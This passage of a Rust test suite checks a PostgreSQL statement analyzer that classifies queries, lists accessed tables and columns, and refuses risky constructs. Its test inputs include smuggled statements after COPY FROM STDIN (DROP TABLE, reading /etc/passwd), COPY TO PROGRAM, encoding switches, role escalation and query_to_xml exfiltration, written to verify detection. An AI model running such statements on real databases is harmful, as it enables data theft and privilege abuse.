    let many = "SELECT 1;".repeat(1001);
    assert!(more_statements_than(&many, 1000));
    assert!(!more_statements_than(&many, 1001));
    assert_eq!(extract(&many).map(|s| s.len()), Ok(1001));
    // Fewer `;` than the limit: not even tokenized (an unterminated string is not counted).
    assert!(!more_statements_than("SELECT 1; SELECT 2; SELECT '", 2));
    assert!(!more_statements_than("SELECT 1; SELECT 2; SELECT ';", 2));
}

#[test]
fn placeholders() {
    let f = one("SELECT abalance FROM pgbench_accounts WHERE aid = $1");
    assert_eq!(tables(&f), ["pgbench_accounts:r"]);
    let f = one("SELECT $1::int, $2::text");
    assert_eq!(f.kind, K::Select);
}

#[test]
fn pgbench_statements() {
    // pgbench's built-in TPC-B-like script, its select-only script and
    // initialization.
    let script = [
        ("BEGIN;", K::Transaction, vec![]),
        (
            "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
            K::Update,
            vec!["pgbench_accounts:w"],
        ),
        (
            "UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 5;",
            K::Update,
            vec!["pgbench_accounts:w"],
        ),
        (
            "SELECT abalance FROM pgbench_accounts WHERE aid = 5;",
            K::Select,
            vec!["pgbench_accounts:r"],
        ),
        (
            "UPDATE pgbench_tellers SET tbalance = tbalance + -4000 WHERE tid = 3;",
            K::Update,
            vec!["pgbench_tellers:w"],
        ),
        (
            "UPDATE pgbench_branches SET bbalance = bbalance + 12 WHERE bid = 1;",
            K::Update,
            vec!["pgbench_branches:w"],
        ),
        (
            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 5, 12, CURRENT_TIMESTAMP);",
            K::Insert,
            vec!["pgbench_history:w"],
        ),
        ("END;", K::Transaction, vec![]),
        (
            "vacuum pgbench_branches",
            K::Ddl,
            vec!["pgbench_branches:w"],
        ),
        (
            "truncate pgbench_history",
            K::Ddl,
            vec!["pgbench_history:w"],
        ),
        (
            "drop table if exists pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
            K::Ddl,
            vec![
                "pgbench_accounts:w",
                "pgbench_branches:w",
                "pgbench_history:w",
                "pgbench_tellers:w",
            ],
        ),
        (
            "create table pgbench_history(tid int,bid int,aid    int,delta int,mtime timestamp,filler char(22))",
            K::Ddl,
            vec!["pgbench_history:w"],
        ),
        (
            "alter table pgbench_branches add primary key (bid)",
            K::Ddl,
            vec!["pgbench_branches:w"],
        ),
        (
            "insert into pgbench_branches(bid,bbalance) values(1,0)",
            K::Insert,
            vec!["pgbench_branches:w"],
        ),
        (
            "insert into pgbench_accounts(aid,bid,abalance,filler) select aid, (aid - 1) / 100000 + 1, 0, '' from generate_series(1, 100000) as aid",
            K::Insert,
            vec!["pgbench_accounts:w"],
        ),
        (
            "select o.n, p.partstrat, pg_catalog.count(i.inhparent) from pg_catalog.pg_class as c join pg_catalog.pg_namespace as n on (n.oid = c.relnamespace) cross join lateral (select pg_catalog.array_position(pg_catalog.current_schemas(true), n.nspname)) as o(n) left join pg_catalog.pg_partitioned_table as p on (p.partrelid = c.oid) left join pg_catalog.pg_inherits as i on (c.oid = i.inhparent) where c.relname = 'pgbench_accounts' and o.n is not null group by 1, 2 order by 1 asc limit 1",
            K::Select,
            vec![
                "pg_catalog.pg_class:r",
                "pg_catalog.pg_namespace:r",
                "pg_catalog.pg_partitioned_table:r",
                "pg_catalog.pg_inherits:r",
            ],
        ),
    ];
    for (sql, kind, expected) in script {
        let f = one(sql);
        assert_eq!(f.kind, kind, "{sql}");
        assert_eq!(tables(&f), expected, "{sql}");
    }
    // The whole transaction as one simple query.
    let all = extract(
        "BEGIN; UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 5; \
         SELECT abalance FROM pgbench_accounts WHERE aid = 5; END;",
    )
    .unwrap();
    assert_eq!(all.len(), 4);
}

#[test]
fn psql_catalog_queries() {
    // \dt
    let f = one(r#"SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;"#);
    assert_eq!(f.kind, K::Select);
    assert_eq!(
        tables(&f),
        [
            "pg_catalog.pg_class:r",
            "pg_catalog.pg_namespace:r",
            "pg_catalog.pg_am:r"
        ]
    );
    assert_eq!(*f.functions, ["pg_get_userbyid", "pg_table_is_visible"]);

    // \d t (lookup by regex with OPERATOR() and COLLATE)
    let f = one(r#"SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(accounts)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;"#);
    assert_eq!(
        tables(&f),
        ["pg_catalog.pg_class:r", "pg_catalog.pg_namespace:r"]
    );

    // \d t (table details, casts to regtype/text)
    let f = one(
        r#"SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, '', c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '16384';"#,
    );
    assert_eq!(tables(&f), ["pg_catalog.pg_class:r", "pg_catalog.pg_am:r"]);

    // \d t (columns, correlated scalar subqueries)
    let f = one(r#"SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = 'public.accounts'::regclass AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;"#);
    assert_eq!(
        tables(&f),
        [
            "pg_catalog.pg_attrdef:r",
            "pg_catalog.pg_collation:r",
            "pg_catalog.pg_type:r",
            "pg_catalog.pg_attribute:r"
        ]
    );
    assert_eq!(*f.functions, ["format_type", "pg_get_expr"]);

    // \l
    let f = one(r#"SELECT
  d.datname as "Name",
  pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
  pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
  pg_catalog.array_to_string(d.datacl, E'\n') AS "Access privileges"
FROM pg_catalog.pg_database d
ORDER BY 1;"#);
    assert_eq!(tables(&f), ["pg_catalog.pg_database:r"]);

    // \du (ARRAY subquery)
    let f = one(r#"SELECT r.rolname, r.rolsuper, r.rolinherit,
  ARRAY(SELECT b.rolname
        FROM pg_catalog.pg_auth_members m
        JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid)
        WHERE m.member = r.oid) as memberof
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;"#);
    assert_eq!(
        tables(&f),
        ["pg_catalog.pg_auth_members:r", "pg_catalog.pg_roles:r"]
    );
}

#[test]
fn serializes_with_lowercase_names() {
    let f = one("WITH x AS (DELETE FROM secrets RETURNING *) SELECT * FROM x");
    let json = serde_json::to_value(&f).unwrap();
    assert_eq!(json["kind"], "delete");
    assert_eq!(json["kinds"], serde_json::json!(["delete", "select"]));
    assert_eq!(
        json["tables"],
        serde_json::json!([{ "schema": null, "name": "secrets", "access": "write" }])
    );
    let f = one("COPY t TO PROGRAM 'x'");
    let json = serde_json::to_value(&f).unwrap();
    assert_eq!(
        json["copy"],
        serde_json::json!({ "direction": "to", "program": true, "file": false })
    );
}

#[test]
fn kind_names_round_trip() {
    for kind in K::ALL {
        assert_eq!(kind.as_str().parse::<K>(), Ok(kind));
        assert_eq!(
            serde_json::to_value(kind).unwrap(),
            serde_json::json!(kind.as_str())
        );
    }
    assert!("dml".parse::<K>().unwrap_err().contains("select"));
}

#[test]
fn deeply_chained_expressions_are_refused_not_crashing() {
    // Left-deep chains are built without recursion by sqlparser but dropped
    // recursively: refuse them before parsing.
    for sql in [
        format!("SELECT {}1", "1+".repeat(20_000)),
        format!("SELECT * FROM t WHERE {}true", "a = 1 AND ".repeat(6_000)),
        format!("SELECT 1{}", " UNION SELECT 1, 2".repeat(20_000)),
        format!(
            "SELECT {}1{}",
            format!("{}(", "1+".repeat(1_000)).repeat(20),
            ")".repeat(20)
        ),
    ] {
        let err = extract(&sql).unwrap_err();
        assert!(err.message.contains("too complex"), "{err}");
    }
    // Long flat lists are fine.
    let values: Vec<String> = (0..5_000)
        .map(|i| format!("({i}, -{i}, 'x' || {i})"))
        .collect();
    let f = one(&format!("INSERT INTO t VALUES {}", values.join(", ")));
    assert_eq!(f.kind, K::Insert);
    let list: Vec<String> = (0..20_000).map(|i| format!("-{i}")).collect();
    let f = one(&format!("SELECT * FROM t WHERE a IN ({})", list.join(", ")));
    assert_eq!(tables(&f), ["t:r"]);
    let f = one(&format!("SELECT {}1 FROM t", "1 + ".repeat(2_000)));
    assert_eq!(f.kind, K::Select);
}

#[test]
fn search_path_changes_are_flagged() {
    for (sql, expected) in [
        ("SET search_path = secret, public", true),
        ("SET LOCAL search_path TO secret", true),
        (
            "SELECT pg_catalog.set_config('search_path', '', false)",
            true,
        ),
        ("SELECT set_config('application_name', 'x', false)", false),
        ("SET application_name = 'x'", false),
        ("RESET search_path", false),
        ("SELECT * FROM t", false),
    ] {
        assert_eq!(one(sql).sets_search_path, expected, "{sql}");
    }
}

#[test]
fn nothing_hides_after_copy_from_stdin() {
    // sqlparser reads the lines after `COPY ... FROM STDIN;` as COPY data; PostgreSQL runs
    // them.
    for sql in [
        "COPY public.t FROM STDIN;\nDROP TABLE secret;\nSELECT pg_read_file('/etc/passwd')",
        "COPY t FROM STDIN;\n1\tone\n\\.\n",
        "/* c */ COPY t (a) FROM STDIN WITH (FORMAT csv); -- x\nDELETE FROM secret",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(err.message.contains("COPY ... FROM STDIN"), "{sql}: {err}");
    }
    // A COPY alone, or followed by statements on its own line, is read as PostgreSQL reads it.
    assert_eq!(one("COPY t FROM STDIN;").kind, K::Copy);
    assert_eq!(extract("COPY t FROM STDIN;\n").unwrap().len(), 1);
    let all = extract("COPY t FROM STDIN; DROP TABLE x").unwrap();
    let kinds: Vec<K> = all.iter().map(|f| f.kind).collect();
    assert_eq!(kinds, [K::Copy, K::Ddl]);
}

#[test]
fn role_settings_are_dcl() {
    for sql in [
        "SET role = 'admin'",
        "SET LOCAL role = 'admin'",
        "SET SESSION role = 'admin'",
        "SET \"ROLE\" = 'admin'",
        "SET session_authorization = 'u'",
        "SELECT set_config('role', 'admin', false)",
        "SELECT 1 FROM t WHERE set_config('Session_Authorization', 'u', true) IS NOT NULL",
        "SELECT * FROM set_config('role', 'admin', false)",
        "SET session_replication_role = replica",
        "SET LOCAL session_replication_role TO 'replica'",
        "SELECT set_config('session_replication_role', 'replica', true)",
    ] {
        let f = one(sql);
        assert_eq!(f.kind, K::Dcl, "{sql}");
    }
    assert_eq!(one("SET application_name = 'role'").kind, K::Set);
    assert_eq!(
        one("SELECT set_config('application_name', 'role', false)").kind,
        K::Select
    );
}

#[test]
fn set_config_in_from_is_checked() {
    for sql in [
        "SELECT * FROM set_config('search_path', 'secret, public', false)",
        "SELECT * FROM t, LATERAL pg_catalog.set_config('search_path', 'secret', true) AS s(v)",
    ] {
        assert!(one(sql).sets_search_path, "{sql}");
    }
    for sql in [
        "SELECT * FROM set_config('standard_conforming_strings', 'off', false)",
        "SELECT * FROM t JOIN set_config('standard_conforming_strings', 'off', false) s ON true",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(
            err.message.contains("standard_conforming_strings"),
            "{sql}: {err}"
        );
    }
    let f = one("SELECT * FROM set_config('application_name', 'x', false)");
    assert!(!f.sets_search_path);
    assert_eq!(*f.functions, ["set_config"]);
    assert!(f.tables.is_empty());
}

#[test]
fn changing_client_encoding_is_refused() {
    for sql in [
        "SET client_encoding = 'SJIS'",
        "SET client_encoding TO 'BIG5'",
        "SET SESSION client_encoding = GBK",
        "SET LOCAL client_encoding TO 'GB18030'",
        "SET \"CLIENT_ENCODING\" = 'SJIS'",
        "SET client_encoding = $1",
        "SET client_encoding = 'UTF8', 'SJIS'",
        "SET client_encoding TO \"DEFAULT\"",
        "SET NAMES 'JOHAB'",
        "SET NAMES sjis",
        "SELECT set_config('client_encoding', 'SJIS', false)",
        "SELECT pg_catalog.set_config('CLIENT_ENCODING', $1, true)",
        "SELECT set_config('client_encoding', enc, false) FROM (SELECT 'SJIS' AS enc) s",
        "SELECT * FROM set_config('client_encoding', 'BIG5', false)",
        "SELECT set_config(setting_name => 'client_encoding', new_value => 'SJIS', is_local => false)",
        "SELECT set_config(new_value => 'SJIS', setting_name => 'client_encoding', is_local => false)",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(err.message.contains("client_encoding"), "{sql}: {err}");
    }
    for sql in [
        "SET client_encoding = 'UTF8'",
        "SET client_encoding TO 'utf-8'",
        "SET SESSION client_encoding TO unicode",
        "SET client_encoding TO DEFAULT",
        "RESET client_encoding",
        "SET NAMES 'UTF8'",
        "SET NAMES DEFAULT",
        "SELECT set_config('client_encoding', 'UTF8', false)",
        "SHOW client_encoding",
        "SELECT setting FROM pg_settings WHERE name = 'client_encoding'",
    ] {
        assert!(extract(sql).is_ok(), "{sql}");
    }
}

#[test]
fn set_config_needs_a_literal_setting_name() {
    // Any other expression could name client_encoding or standard_conforming_strings.
    for sql in [
        "SELECT set_config($1, $2, false)",
        "SELECT set_config(name, 'off', false) FROM settings",
        "SELECT set_config('standard_' || 'conforming_strings', 'off', false)",
        "SELECT set_config('standard_conforming_strings'::text, 'off', false)",
        "SELECT * FROM set_config($1, 'off', false)",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(err.message.contains("not a string literal"), "{sql}: {err}");
    }
    // Named arguments, quoted setting names and a column as the value are read as
    // PostgreSQL reads them.
    for sql in [
        "SELECT set_config(new_value => 'off', setting_name => 'standard_conforming_strings', \
         is_local => false)",
        "SELECT set_config('standard_conforming_strings', yes, false) FROM (SELECT 'off' AS yes) s",
        "SET \"STANDARD_CONFORMING_STRINGS\" = off",
        "RESET \"Standard_Conforming_Strings\"",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(
            err.message.contains("standard_conforming_strings"),
            "{sql}: {err}"
        );
    }
    assert!(extract("SELECT set_config('application_name', $1, false)").is_ok());
    assert!(extract("SELECT set_config('standard_conforming_strings', 'on', false)").is_ok());
}

#[test]
fn writing_pg_settings_is_refused() {
    // pg_settings' update rule calls set_config.
    for sql in [
        "UPDATE pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'",
        "UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
        "WITH u AS (UPDATE pg_settings SET setting = 'x' RETURNING *) SELECT * FROM u",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(err.message.contains("pg_settings"), "{sql}: {err}");
    }
    assert!(extract("UPDATE myschema.pg_settings SET a = 1 WHERE id = 1").is_ok());
}

#[test]
fn upserts_and_merges_report_what_they_do() {
    // From VALUES the rows it can update are the ones written out: bounded.
    let f = one("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v");
    assert_eq!(*f.kinds, [K::Update, K::Insert]);
    assert!(!f.update_or_delete_without_where);
    // From a query it can rewrite every row of the table.
    let f = one("INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET v = 0");
    assert_eq!(*f.kinds, [K::Update, K::Insert]);
    assert!(f.update_or_delete_without_where);
    let f = one(
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v WHERE t.v < 10",
    );
    assert_eq!(*f.kinds, [K::Update, K::Insert]);
    assert!(!f.update_or_delete_without_where);
    let f = one("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING");
    assert_eq!(*f.kinds, [K::Insert]);
    assert!(!f.update_or_delete_without_where);

    let f = one(
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v \
         WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)",
    );
    assert_eq!(*f.kinds, [K::Merge, K::Update, K::Insert]);
    // ON bounds the matched rows like a WHERE clause.
    assert!(!f.update_or_delete_without_where);
    let f = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE");
    assert_eq!(f.kind, K::Delete);
    assert_eq!(*f.kinds, [K::Delete, K::Merge]);
    assert!(!f.update_or_delete_without_where);
    // NOT MATCHED BY SOURCE acts on every target row ON does not match.
    let f = one("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE");
    assert!(f.update_or_delete_without_where);
    let f =
        one("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.old THEN DELETE");
    assert!(!f.update_or_delete_without_where);
    let f = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING");
    assert_eq!(*f.kinds, [K::Merge]);
}

#[test]
fn functions_running_sql_strings_are_opaque() {
    for sql in [
        "SELECT query_to_xml('SELECT * FROM secret', true, false, '')",
        "SELECT pg_catalog.query_to_xml_and_xmlschema('TABLE secret', true, false, '')",
        "SELECT query_to_xmlschema('SELECT 1', true, false, '')",
        "SELECT cursor_to_xml('c', 10, true, false, '')",
        "SELECT table_to_xml('secret', true, false, '')",
        "SELECT table_to_xml_and_xmlschema('secret'::regclass, true, false, '')",
        "SELECT schema_to_xml('private', true, false, '')",
        "SELECT database_to_xml(true, false, '')",
        "SELECT * FROM ts_stat('SELECT body FROM secret')",
        "SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM secret')",
        "SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)",
        "SELECT 1 FROM t WHERE length(query_to_xml('SELECT 1', true, false, '')::text) > 0",
    ] {
        assert!(one(sql).opaque, "{sql} should be opaque");
    }
    for sql in [
        "SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)",
        "SELECT xmlcomment(x) FROM t",
        "SELECT \"QUERY_TO_XML\"('x')",
    ] {
        assert!(!one(sql).opaque, "{sql} should not be opaque");
    }
}

#[test]
fn ddl_reports_the_other_tables_it_names() {
    check_tables(&[
        (
            "CREATE TABLE scratch.c () INHERITS (public.secret)",
            K::Ddl,
            &["scratch.c:w", "public.secret:w"],
        ),
        (
            "CREATE TABLE scratch.t (id int REFERENCES secret.data(id))",
            K::Ddl,
            &["scratch.t:w", "secret.data:w"],
        ),
        (
            "CREATE TABLE scratch.t (id int, CONSTRAINT f FOREIGN KEY (id) REFERENCES other (x))",
            K::Ddl,
            &["scratch.t:w", "other:w"],
        ),
        (
            "CREATE TABLE scratch.t AS SELECT * FROM src",
            K::Ddl,
            &["scratch.t:w", "src:r"],
        ),
        ("CREATE TABLE t (LIKE secret)", K::Ddl, &["t:w", "secret:r"]),
        (
            "CREATE TABLE t (a int, LIKE s.secret)",
            K::Ddl,
            &["t:w", "s.secret:r"],
        ),
        (
            "CREATE TABLE c PARTITION OF p FOR VALUES IN (1)",
            K::Ddl,
            &["c:w", "p:w"],
        ),
        (
            "ALTER TABLE scratch.t INHERIT public.parent",
            K::Ddl,
            &["scratch.t:w", "public.parent:w"],
        ),
        (
            "ALTER TABLE scratch.t NO INHERIT parent",
            K::Ddl,
            &["scratch.t:w", "parent:w"],
        ),
        (
            "ALTER TABLE scratch.t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES other(b)",
            K::Ddl,
            &["scratch.t:w", "other:w"],
        ),
        (
            "ALTER TABLE t ALTER COLUMN c SET DEFAULT 1, ADD FOREIGN KEY (c) REFERENCES z",
            K::Ddl,
            &["t:w", "z:w"],
        ),
        (
            "ALTER TABLE t ADD COLUMN x int REFERENCES o(id)",
            K::Ddl,
            &["t:w", "o:w"],
        ),
        (
            "ALTER TABLE p ATTACH PARTITION s.c FOR VALUES IN (1)",
            K::Ddl,
            &["p:w", "s.c:w"],
        ),
        ("ALTER TABLE p DETACH PARTITION c", K::Ddl, &["p:w", "c:w"]),
        ("ALTER TABLE s.t RENAME TO u", K::Ddl, &["s.t:w", "s.u:w"]),
        ("ALTER TABLE t RENAME TO u", K::Ddl, &["t:w", "u:w"]),
    ]);
    assert!(!one("CREATE TABLE scratch.c () INHERITS (public.secret)").opaque);
}

#[test]
fn columns_used_other_than_as_bare_top_level_outputs_are_listed() {
    let uses = |sql: &str| one(sql).computed_from.to_vec();
    // Taken as they are: RowDescription names their table.
    assert!(uses("SELECT ssn, c.card_number AS n FROM customers c").is_empty());
    assert!(uses("SELECT DISTINCT ssn FROM customers").is_empty());
    // Computed, compared, ordered, in subqueries or set operations.
    assert_eq!(uses("SELECT upper(email) FROM customers"), ["email"]);
    assert_eq!(uses("SELECT substr(SSN, 1, 3) FROM customers"), ["ssn"]);
    assert_eq!(uses("SELECT \"Ssn\" || 'x' FROM customers"), ["Ssn"]);
    assert_eq!(
        uses("SELECT id FROM customers WHERE ssn LIKE '1%'"),
        ["ssn"]
    );
    assert_eq!(uses("SELECT ssn FROM customers ORDER BY ssn"), ["ssn"]);
    assert_eq!(uses("SELECT (SELECT ssn FROM customers LIMIT 1)"), ["ssn"]);
    assert_eq!(uses("SELECT ssn FROM customers UNION SELECT 'x'"), ["ssn"]);
    // The subquery's output is taken as it is at the top: its origin is the table's column.
    assert_eq!(
        uses("SELECT x FROM (SELECT ssn AS x FROM customers) s"),
        ["ssn"]
    );
    assert_eq!(uses("SELECT count(*) FROM customers GROUP BY ssn"), ["ssn"]);
    // `USING` merges the columns it names (the merged one has no origin).
    assert_eq!(
        uses("SELECT ssn FROM customers FULL JOIN other USING (ssn)"),
        ["ssn"]
    );
    assert_eq!(
        uses("WITH c AS (SELECT reverse(ssn) AS r FROM customers) SELECT r FROM c"),
        ["ssn"]
    );
}

#[test]
fn columns_a_statement_holds_under_no_name_it_uses_are_flagged() {
    for sql in [
        "SELECT c FROM customers c",
        "SELECT customers FROM customers",
        "SELECT row_to_json(c) FROM customers AS c",
        "SELECT to_jsonb(s) FROM (SELECT ssn FROM customers) s",
        "SELECT (c).ssn FROM customers c",
        "SELECT id FROM customers c WHERE c IS NOT NULL",
        // Columns under no name the statement uses, without a table of origin.
        "SELECT * FROM customers UNION ALL SELECT * FROM customers WHERE false",
        "SELECT ssn FROM (SELECT * FROM customers UNION ALL SELECT * FROM customers) s",
        "WITH RECURSIVE r AS (SELECT * FROM customers UNION ALL SELECT * FROM r WHERE false) SELECT * FROM r",
        "SELECT * FROM customers NATURAL FULL JOIN (SELECT NULL::text AS ssn WHERE false) z",
        "SELECT upper(x) FROM customers AS c(i, n, x)",
        "SELECT upper(x) FROM (SELECT * FROM customers) s(i, n, x)",
        "WITH w(i, n, x) AS (SELECT * FROM customers) SELECT upper(x) FROM w",
        "SELECT row_to_json(c.*) FROM customers c",
        "SELECT (c.*)::text FROM customers c",
        "SELECT array_agg(c.*) FROM customers c",
        "SELECT j->>'ssn' FROM (SELECT to_jsonb(c.*) j FROM customers c) s",
        "TABLE customers UNION ALL TABLE customers",
        "SELECT ssn FROM (TABLE customers UNION ALL TABLE customers) s",
        "WITH t AS (TABLE customers UNION TABLE customers) SELECT * FROM t",
        "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
        "INSERT INTO customers (id) VALUES (2) ON CONFLICT (id) DO UPDATE SET note = customers.note WHERE customers.id = 2 RETURNING customers",
        "INSERT INTO customers AS c (id) VALUES (2) ON CONFLICT (id) DO UPDATE SET note = c.note WHERE c.id = 2 RETURNING row_to_json(c)",
    ] {
        assert!(one(sql).unseen_columns, "{sql}");
    }
    for sql in [
        "SELECT c.ssn, c.* FROM customers c",
        "SELECT id, name FROM customers",
        // A scalar function's alias is its one column.
        "SELECT g, g * g FROM generate_series(1, 3) g",
        "SELECT x FROM unnest(ARRAY[1, 2]) AS x",
        "SELECT * FROM customers",
        "SELECT c.* FROM customers c JOIN t ON t.id = c.id",
        "SELECT count(*) FROM customers",
        "WITH d AS (DELETE FROM secrets WHERE id = 1 RETURNING value) SELECT * FROM d",
    ] {
        assert!(!one(sql).unseen_columns, "{sql}");
    }
}

#[test]
fn qualified_references_to_tables_are_listed_for_the_catalog() {
    // `c.f` is the call `f(c)` over the whole row when `f` is no column of `c`; only the catalog
    // can tell, so each reference qualified by a table or view is listed.
    let refs = |sql: &str| -> Vec<String> {
        one(sql)
            .qualified_columns
            .iter()
            .map(ToString::to_string)
            .collect()
    };
    assert_eq!(
        refs("SELECT c.to_jsonb ->> 'ssn' FROM customers c"),
        ["customers.to_jsonb"]
    );
    assert_eq!(
        refs("SELECT translate(c.concat, '0123456789', 'abcdefghij') FROM customers c"),
        ["customers.concat"]
    );
    assert_eq!(
        refs("SELECT customers.record_out FROM customers"),
        ["customers.record_out"]
    );
    assert_eq!(
        refs("SELECT C.\"text\" FROM Customers AS c"),
        ["customers.text"]
    );
    assert_eq!(
        refs("SELECT c.full_name FROM public.customers c"),
        ["public.customers.full_name"]
    );
    // `schema.table.x` and `database.schema.table.x` name the table's schema.
    assert_eq!(
        refs("SELECT public.customers.to_jsonb FROM customers"),
        ["public.customers.to_jsonb"]
    );
    assert_eq!(
        refs("SELECT postgres.public.customers.to_jsonb FROM customers"),
        ["public.customers.to_jsonb"]
    );
    // Every clause, every statement that names tables: targets of writes, an upsert's
    // proposed row, correlated subqueries.
    assert_eq!(
        refs("UPDATE customers c SET note = 'x' WHERE c.id = 1 RETURNING c.text"),
        ["customers.id", "customers.text"]
    );
    assert_eq!(
        refs("DELETE FROM customers WHERE id = 1 RETURNING customers.to_jsonb"),
        ["customers.to_jsonb"]
    );
    assert_eq!(
        refs(
            "INSERT INTO customers AS c (id) VALUES (1) ON CONFLICT (id) DO UPDATE \
             SET note = excluded.note RETURNING c.to_jsonb"
        ),
        ["customers.note", "customers.to_jsonb"]
    );
    assert_eq!(
        refs("SELECT (SELECT o.id FROM orders o WHERE o.customer = c.id) FROM customers c"),
        ["orders.id", "orders.customer", "customers.id"]
    );
    assert_eq!(
        refs(
            "MERGE INTO customers c USING staging s ON s.id = c.id \
             WHEN MATCHED THEN UPDATE SET note = s.note"
        ),
        ["staging.id", "customers.id", "staging.note"]
    );
    // One alias for two tables: checked against both.
    assert_eq!(
        refs("SELECT x.id FROM customers x UNION SELECT x.id FROM orders x"),
        ["customers.id", "orders.id"]
    );
    // What flows through a CTE, a subquery or a function is counted where it is computed.
    assert!(refs("WITH t AS (SELECT id FROM customers) SELECT t.to_jsonb FROM t").is_empty());
    assert!(refs("SELECT s.to_jsonb FROM (SELECT id FROM customers) s").is_empty());
    assert!(refs("SELECT g.to_jsonb FROM generate_series(1, 3) g").is_empty());
    assert_eq!(
        refs("WITH t AS (SELECT c.to_jsonb AS j FROM customers c) SELECT t.j FROM t"),
        ["customers.to_jsonb"]
    );
    // Inside the first CTE's body, `t` is still the table.
    assert_eq!(
        refs("WITH a AS (SELECT t.to_jsonb FROM t), t AS (SELECT 1 AS x) SELECT * FROM a, t"),
        ["t.to_jsonb"]
    );
    // Unqualified names need nothing from the catalog.
    assert!(refs("SELECT abalance FROM pgbench_accounts WHERE aid = 1").is_empty());
}

#[test]
fn qualifiers_naming_nothing_the_statement_holds_are_whole_rows() {
    for sql in [
        // A parenthesized join's alias qualifies the columns of every table in it.
        "SELECT j.to_jsonb FROM (customers JOIN orders USING (id)) AS j",
        // Not a FROM item of the statement (PostgreSQL 18 reads `old` in RETURNING).
        "UPDATE customers SET note = 'x' WHERE id = 1 RETURNING old.to_jsonb",
        "SELECT a.b.c.d.e FROM customers",
    ] {
        assert!(one(sql).unseen_columns, "{sql}");
    }
    // The facts cannot tell a function over the row from a column: the catalog decides.
    for sql in [
        "SELECT c.to_jsonb FROM customers c",
        "SELECT c.id, upper(c.name) FROM customers c",
    ] {
        assert!(!one(sql).unseen_columns, "{sql}");
    }
}
